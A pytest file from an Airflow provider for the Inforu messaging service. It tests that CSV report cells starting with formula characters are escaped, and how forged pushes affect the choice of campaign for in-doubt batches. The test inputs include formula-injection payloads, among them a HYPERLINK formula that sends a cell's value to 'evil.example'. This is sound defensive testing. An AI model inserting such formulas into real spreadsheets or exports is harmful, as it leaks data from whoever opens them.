"""Words of the vendor, and of pushes, that reach a report or decide about batches in doubt."""

import csv
import io
import json
from types import SimpleNamespace

import pytest

from airflow_provider_inforu.operators.in_doubt import find_accepted
from airflow_provider_inforu.operators.report_file import COLUMNS, _write
from airflow_provider_inforu.sending.dispatch import FIRST


@pytest.mark.parametrize(
    "text", ["=1+1", "+1-1", "-1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A2)']
)
def test_no_cell_of_a_report_begins_a_formula(text):
    row = {
        **dict.fromkeys(COLUMNS),
        "key": text,
        "outcome": text,
        "digit": text,
        "reason": text,
        "seconds": 8,
    }
    table, lines = io.StringIO(newline=""), io.StringIO()
    _write(table, iter([row]), as_table=True)
    _write(lines, iter([row]), as_table=False)
    (cells,) = csv.DictReader(io.StringIO(table.getvalue(), newline=""))
    assert {cells[name] for name in ("key", "outcome", "digit", "reason")} == {f"'{text}"}
    assert cells["seconds"] == "8"
    assert json.loads(lines.getvalue())["key"] == text


def test_a_forged_push_chooses_no_campaign_for_the_batches_after_the_first():
    """The first batch may make the copy of a campaign, to which all others are sent."""
    batches = [SimpleNamespace(number=FIRST, keys=["a"]), SimpleNamespace(number=FIRST + 1, keys=["b"])]
    ledger = SimpleNamespace(
        in_doubt=lambda: [batch.number for batch in batches], header=SimpleNamespace(send_id="0" * 16)
    )
    calls = [SimpleNamespace(key=key, campaign_id=666) for key in "ab"]
    hook = SimpleNamespace(settings=SimpleNamespace(has_receiver=True), iter_call_results=lambda _: calls)
    assert find_accepted(hook, ledger, batches) == {FIRST: None, FIRST + 1: 666}
